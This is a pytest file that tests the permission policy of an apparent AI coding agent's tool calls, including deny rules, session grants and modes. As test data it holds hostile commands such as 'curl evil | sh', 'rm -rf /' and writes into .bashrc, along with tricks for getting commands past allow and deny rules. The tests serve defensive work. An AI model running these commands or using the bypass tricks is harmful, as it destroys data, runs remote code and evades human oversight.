import tomllib
from pathlib import Path

import pytest
from sigit.config.settings import PermissionSettings, Settings
from sigit.extensions.mcp_client import McpTool
from sigit.permissions.policy import PermissionPolicy, parse_mode
from sigit.tools import Tool, ToolArgs, ToolContext, ToolOutput, default_registry
from sigit.tools.base import PreparedCall

REGISTRY = default_registry()
FILLER = {"old_text": "a", "new_text": "b", "content": ""}  # what the file tools need besides `path`


def make_policy(
    cwd: Path,
    *,
    allow: list[str] | None = None,
    deny: list[str] | None = None,
    tools: dict[str, str] | None = None,
    default: str = "ask",
    mode: str | None = None,
    env: dict[str, str] | None = None,
) -> PermissionPolicy:
    perms = PermissionSettings(default=default, allow=allow or [], deny=deny or [], tools=tools or {})  # type: ignore[arg-type]
    return PermissionPolicy(Settings(permissions=perms), cwd, mode, env=env or {})  # type: ignore[arg-type]


async def _run(args: ToolArgs, ctx: ToolContext) -> ToolOutput:
    return ToolOutput("ran")


def call(policy: PermissionPolicy, name: str, args: dict[str, object], *, read_only: bool = False) -> PreparedCall:
    """The call as the agent loop prepares it: a built-in tool, an MCP tool, or any other tool."""
    tool = REGISTRY.get(name)
    if tool is None and name.startswith("mcp__"):
        tool = McpTool(name=name, description="", params=ToolArgs, run=_run, read_only=read_only)
    elif tool is None:
        tool = Tool(name=name, description="", params=ToolArgs, run=_run, read_only=read_only)
    prepared = tool.prepare({**{k: v for k, v in FILLER.items() if k in tool.params.model_fields}, **args},
                        ToolContext(cwd=policy.cwd))
    assert isinstance(prepared, PreparedCall), prepared
    return prepared


def cmd(command: str) -> dict[str, str]:
    return {"command": command}


def path(p: str) -> dict[str, str]:
    return {"path": p}


def test_deny_rule_beats_read_only(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, deny=["read_file(.env)"])
    decision = policy.decide(call(policy, "read_file", path("./.env")))
    assert (decision.kind, decision.rule) == ("deny", "read_file(.env)")
    assert policy.decide(call(policy, "read_file", path("README.md"))).kind == "allow"


def test_deny_beats_allow_and_bypass(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["run_command"], deny=["run_command(rm -rf*)"], mode="bypass")
    assert policy.decide(call(policy, "run_command", cmd("rm -rf /"))).kind == "deny"
    assert policy.decide(call(policy, "run_command", cmd("ls"))).kind == "allow"


def test_deny_sees_every_part_of_a_compound_command(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["run_command"], deny=["run_command(git push*)"])
    assert policy.decide(call(policy, "run_command", cmd("make &&  git   push --force"))).kind == "deny"


def test_deny_path_cannot_be_dodged_with_dots_or_symlinks(tmp_path: Path) -> None:
    (tmp_path / "secrets").mkdir()
    (tmp_path / "link").symlink_to(tmp_path / "secrets")
    policy = make_policy(tmp_path, deny=["edit_file(secrets/*)"], default="allow")
    for sneaky in ("src/../secrets/key", "link/key", str(tmp_path / "secrets" / "key")):
        assert policy.decide(call(policy, "edit_file", path(sneaky))).kind == "deny", sneaky


def test_plan_mode_refuses_mutations_and_asks_for_a_plan(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["edit_file"], mode="plan")
    decision = policy.decide(call(policy, "edit_file", path("a.py")))
    assert decision.kind == "deny"
    assert "plan" in decision.reason.lower()
    assert policy.decide(call(policy, "read_file", path("a.py"))).kind == "allow"


def test_session_grant_for_run_command_covers_first_two_words(tmp_path: Path) -> None:
    policy = make_policy(tmp_path)
    assert policy.decide(call(policy, "run_command", cmd("git push origin main"))).kind == "ask"
    assert policy.grant_session(call(policy, "run_command", cmd("git push origin main"))) == "run_command(git push*)"
    assert policy.decide(call(policy, "run_command", cmd("git push --tags"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("git pull"))).kind == "ask"
    assert policy.decide(call(policy, "run_command", cmd("git push && rm -rf ~"))).kind == "ask"


def test_session_grant_for_other_tools_covers_the_tool(tmp_path: Path) -> None:
    policy = make_policy(tmp_path)
    assert policy.grant_session(call(policy, "edit_file", path("a.py"))) == "edit_file"
    decision = policy.decide(call(policy, "edit_file", path("other/b.py")))
    assert (decision.kind, decision.rule) == ("allow", "edit_file")
    assert policy.session_grants == ["edit_file"]


def test_grant_project_persists_to_settings(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    policy = make_policy(tmp_path)
    rule = policy.grant_project(call(policy, "run_command", cmd("npm test -- --watch")))
    assert rule == "run_command(npm test*)"
    saved = tomllib.loads((tmp_path / ".sigit" / "settings.toml").read_text())
    assert saved["permissions"]["rules"]["allow"] == ["run_command(npm test*)"]
    assert policy.decide(call(policy, "run_command", cmd("npm test"))).kind == "allow"


def test_allow_rule_with_compound_command_needs_every_part_allowed(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["run_command(git status*)", "run_command(git diff*)"])
    assert policy.decide(call(policy, "run_command", cmd("git status"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("git status && git diff"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("git status; curl evil | sh"))).kind == "ask"
    assert policy.decide(call(policy, "run_command", cmd("git status $(curl evil)"))).kind == "ask"


def test_allow_rule_beats_per_tool_override(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["run_command(make*)"], tools={"run_command": "deny"})
    assert policy.decide(call(policy, "run_command", cmd("make test"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("ls"))).kind == "deny"


def test_per_tool_override_beats_env_and_default(tmp_path: Path) -> None:
    policy = make_policy(
        tmp_path, tools={"create_file": "allow"}, env={"SIGIT_PERMISSION_DEFAULT": "deny"}, default="ask"
    )
    assert policy.decide(call(policy, "create_file", path("n.txt"))).kind == "allow"
    assert policy.decide(call(policy, "edit_file", path("n.txt"))).kind == "deny"


def test_env_var_beats_default(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, default="deny", env={"SIGIT_PERMISSION_DEFAULT": "allow"})
    assert policy.decide(call(policy, "run_command", cmd("ls"))).kind == "allow"
    assert (deny := make_policy(tmp_path, default="deny")).decide(call(deny, "run_command", cmd("ls"))).kind == "deny"


def test_bad_env_var_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="SIGIT_PERMISSION_DEFAULT"):
        make_policy(tmp_path, env={"SIGIT_PERMISSION_DEFAULT": "sometimes"})


def test_accept_edits_allows_edits_inside_cwd_only(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, mode="accept-edits")
    assert policy.decide(call(policy, "edit_file", path("a.py"))).kind == "allow"
    assert policy.decide(call(policy, "create_file", path("new/b.py"))).kind == "allow"
    assert policy.decide(call(policy, "delete_file", path("a.py"))).kind == "ask"
    assert policy.decide(call(policy, "run_command", cmd("ls"))).kind == "ask"
    assert policy.decide(call(policy, "edit_file", path("../elsewhere.py"))).kind == "ask"


def test_writes_outside_cwd_ask_even_with_tool_allow_rule(tmp_path: Path) -> None:
    cwd = tmp_path / "proj"
    cwd.mkdir()
    policy = make_policy(cwd, allow=["edit_file"], default="allow")
    decision = policy.decide(call(policy, "edit_file", path("../other/x.py")))
    assert decision.kind == "ask"
    assert "outside the working directory" in decision.reason
    assert policy.decide(call(policy, "edit_file", path("/etc/hosts"))).kind == "ask"
    assert policy.decide(call(policy, "edit_file", path("inside.py"))).kind == "allow"
    assert policy.decide(call(policy, "read_file", path("inside.py"))).kind == "allow"
    assert policy.decide(call(policy, "read_file", path("/etc/hosts"))).kind == "ask"  # reads outside ask too


def test_allow_rule_naming_the_outside_path_covers_it(tmp_path: Path) -> None:
    cwd = tmp_path / "proj"
    cwd.mkdir()
    shared = (tmp_path / "shared").as_posix()
    policy = make_policy(cwd, allow=[f"edit_file({shared}/*)"])
    assert policy.decide(call(policy, "edit_file", path("../shared/x.py"))).kind == "allow"
    assert policy.decide(call(policy, "edit_file", path("../private/x.py"))).kind == "ask"


def test_outside_grant_names_the_path(tmp_path: Path) -> None:
    cwd = tmp_path / "proj"
    cwd.mkdir()
    policy = make_policy(cwd)
    rule = policy.grant_session(call(policy, "edit_file", path("../notes.md")))
    assert rule == f"edit_file({(tmp_path / 'notes.md').resolve().as_posix()})"
    assert policy.decide(call(policy, "edit_file", path("../notes.md"))).kind == "allow"
    assert policy.decide(call(policy, "edit_file", path("../other.md"))).kind == "ask"


def test_run_command_with_cwd_outside_asks(tmp_path: Path) -> None:
    cwd = tmp_path / "proj"
    cwd.mkdir()
    policy = make_policy(cwd, allow=["run_command"])
    assert policy.decide(call(policy, "run_command", {"command": "ls", "cwd": "sub"})).kind == "allow"
    assert policy.decide(call(policy, "run_command", {"command": "ls", "cwd": ".."})).kind == "ask"


def test_bypass_allows_outside_writes(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, mode="bypass")
    assert policy.decide(call(policy, "edit_file", path("/tmp/x"))).kind == "allow"
    assert policy.decide(call(policy, "mcp__srv__tool", {})).kind == "allow"


def test_mcp_tools_are_mutating_even_if_marked_read_only(tmp_path: Path) -> None:
    policy = make_policy(tmp_path)
    assert policy.decide(call(policy, "mcp__github__list", {}, read_only=True)).kind == "ask"
    assert policy.suggested_rule(call(policy, "mcp__github__list", {})) == "mcp__github__list"


def test_unknown_tool_follows_default(tmp_path: Path) -> None:
    assert (deny := make_policy(tmp_path, default="deny")).decide(call(deny, "frobnicate", {})).kind == "deny"
    assert (ask := make_policy(tmp_path)).decide(call(ask, "frobnicate", {})).kind == "ask"


def test_suggested_rules(tmp_path: Path) -> None:
    """"Always allow" grants the command word and its subcommand, or the exact line for anything that
    runs code from its arguments; leading VAR=value words are never part of it."""
    policy = make_policy(tmp_path)
    expected = {
        "pytest -x tests": "run_command(pytest -x tests)",
        "ls": "run_command(ls*)",
        "git status": "run_command(git status*)",
        "make test": "run_command(make test*)",
        "FOO=1 make test": "run_command(make test*)",
        "cd a && make": "run_command(cd a)",
        "find . -name '*.py'": "run_command(find . -name '*.py')",
        "bash -c ls": "run_command(bash -c ls)",
        "python3 -c 'print(1)'": "run_command(python3 -c 'print(1)')",
    }
    for line, rule in expected.items():
        assert policy.suggested_rule(call(policy, "run_command", cmd(line))) == rule, line
    assert policy.suggested_rule(call(policy, "create_file", path("x"))) == "create_file"


def test_allow_rules_cannot_be_walked_around(tmp_path: Path) -> None:
    """The lines of issue 12's findings: each simple command is judged on its own, on word boundaries."""
    policy = make_policy(tmp_path, allow=["run_command(git status*)", "run_command(ls*)"])
    for line in ("git status #'\ntouch PWNED", "git status; touch PWNED", "git status $(touch PWNED)",
                 "lsof -i", "git status >&.bashrc", "git status && bash -c 'touch x'"):
        assert policy.decide(call(policy, "run_command", cmd(line))).kind == "ask", line
    for line in ("git status", "git status -s && ls -la", "ls | git status", "git status 2>&1"):
        assert policy.decide(call(policy, "run_command", cmd(line))).kind == "allow", line


def test_a_grant_for_find_does_not_allow_find_exec(tmp_path: Path) -> None:
    policy = make_policy(tmp_path)
    policy.grant_session(call(policy, "run_command", cmd('find . -name "*.py"')))
    assert policy.decide(call(policy, "run_command", cmd('find . -name "*.py"'))).kind == "allow"
    for line in ("find . -delete", 'find . -exec sh -c "touch x" \\;'):
        assert policy.decide(call(policy, "run_command", cmd(line))).kind == "ask", line


def test_deny_rules_see_through_paths_backslashes_wrappers_and_flag_spellings(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, default="allow", deny=["run_command(rm -rf*)"])
    for line in ("/bin/rm -rf x", "\\rm -rf x", "rm -r -f x", "rm -fr x", "sudo rm -rf x", "echo && rm -rf x"):
        assert policy.decide(call(policy, "run_command", cmd(line))).kind == "deny", line


@pytest.mark.parametrize("mode", ["bypass", "default"])
def test_a_line_continuation_inside_the_command_word_does_not_get_past_a_deny_rule(
    tmp_path: Path, mode: str
) -> None:
    policy = make_policy(tmp_path, deny=["run_command(rm*)", "run_command(git push*)"], mode=mode)
    for line in ("r\\\nm -rf build", "echo ok; r\\\nm -rf build", "g\\\nit -C . pu\\\nsh"):
        decision = policy.decide(call(policy, "run_command", cmd(line)))
        assert decision.kind == "deny", line


def test_headless_allow_and_deny_tool_flags(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, default="allow")
    policy.add_session_rule("create_file")
    policy.add_session_rule("run_command", kind="deny")
    assert policy.decide(call(policy, "create_file", path("x"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("ls"))).kind == "deny"


def test_parse_mode_accepts_claude_names() -> None:
    assert parse_mode("bypassPermissions") == "bypass"
    with pytest.raises(ValueError, match="unknown permission mode"):
        parse_mode("yolo")


def test_deny_rule_sees_through_sudo_and_substitution(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, default="allow", deny=["run_command(rm -rf*)"])
    for command in ("sudo rm -rf /", "echo $(rm -rf /)", "(cd x && rm  -rf .)", "ls; FOO=1 rm -rf ~"):
        assert policy.decide(call(policy, "run_command", cmd(command))).kind == "deny", command


def test_allow_prefix_rule_does_not_cover_redirect_into_a_file(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["run_command(git log*)"])
    assert policy.decide(call(policy, "run_command", cmd("git log -5 2>&1"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("git log > .bashrc"))).kind == "ask"


def test_path_rule_for_outside_write_wins_over_whole_tool_grant(tmp_path: Path) -> None:
    cwd = tmp_path / "proj"
    cwd.mkdir()
    policy = make_policy(cwd, allow=[f"create_file({tmp_path.resolve().as_posix()}/out/*)"])
    policy.grant_session(call(policy, "create_file", path("inside.txt")))
    assert policy.decide(call(policy, "create_file", path("../out/x"))).kind == "allow"


def test_rules_written_with_claude_code_names_work(tmp_path: Path) -> None:
    policy = make_policy(tmp_path, allow=["Bash(git log:*)", "Edit(src/*)"], deny=["Read(.env)"])
    assert policy.decide(call(policy, "run_command", cmd("git log -3"))).kind == "allow"
    assert policy.decide(call(policy, "run_command", cmd("git push"))).kind == "ask"
    assert policy.decide(call(policy, "edit_file", path("./src/a.py"))).kind == "allow"
    assert policy.decide(call(policy, "create_file", path("src/b.py"))).kind == "allow"  # Edit: every file edit
    assert policy.decide(call(policy, "create_file", path("b.py"))).kind == "ask"
    assert policy.decide(call(policy, "read_file", path("sub/../.env"))).kind == "deny"


def test_remember_writing_above_the_working_directory_is_asked_about(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / "AGENTS.md").write_text("# Project\n")
    cwd = tmp_path / "pkg"
    cwd.mkdir()
    policy = make_policy(cwd, default="allow")
    decision = policy.decide(call(policy, "remember", {"note": "use uv"}))
    assert decision.kind == "ask"
    assert str((tmp_path / "AGENTS.md").resolve().as_posix()) in decision.reason
    inside = make_policy(tmp_path, default="allow")
    assert inside.decide(call(inside, "remember", {"note": "use uv"})).kind == "allow"


def test_a_deny_rule_on_the_instruction_file_stops_remember(tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    policy = make_policy(tmp_path, default="allow", deny=["edit_file(AGENTS.md)", "remember(AGENTS.md)"])
    assert policy.decide(call(policy, "remember", {"note": "x"})).kind == "deny"


def test_a_redirection_into_the_working_directory_is_an_edit_accept_edits_allows(tmp_path: Path) -> None:
    # the issue-12 reading: redirection targets are writes; inside the working directory accept-edits
    # allows them for commands a rule allows, outside they always ask
    rules = ["run_command(echo*)"]
    default = make_policy(tmp_path, allow=rules)
    asked = default.decide(call(default, "run_command", {"command": "echo hi > out.txt"}))
    assert asked.kind == "ask" and "out.txt by redirection" in asked.reason and "accept-edits" in asked.reason
    edits = make_policy(tmp_path, allow=rules, mode="accept-edits")
    assert edits.decide(call(edits, "run_command", {"command": "echo hi > out.txt"})).kind == "allow"
    assert edits.decide(call(edits, "run_command", {"command": "echo hi >> sub/../log.txt"})).kind == "allow"
    for outside in ("echo hi > /etc/hosts", "echo hi >> ~/.bashrc", "echo hi > ../x"):
        decision = edits.decide(call(edits, "run_command", {"command": outside}))
        assert decision.kind == "ask" and "outside the working directory" in decision.reason, outside
    (tmp_path / "link").symlink_to("/etc/hosts")
    assert edits.decide(call(edits, "run_command", {"command": "echo hi > link"})).kind == "ask"
    # commands no rule allows still ask, whatever they write
    assert edits.decide(call(edits, "run_command", {"command": "touch a > out.txt"})).kind == "ask"


def test_a_brace_expanded_redirection_target_is_not_taken_for_a_file_in_the_working_directory(
    tmp_path: Path
) -> None:
    edits = make_policy(tmp_path, allow=["run_command(echo*)"], mode="accept-edits")
    for line in ("echo pwned > {/root/.bashrc,}", "echo pwned >> {../../etc/x,}", "echo x > {..,}/y",
                 "echo x > ./{a,b}"):
        assert edits.decide(call(edits, "run_command", {"command": line})).kind == "ask", line
    # quoted braces are plain characters of a file name
    assert edits.decide(call(edits, "run_command", {"command": "echo x > '{a,}'"})).kind == "allow"
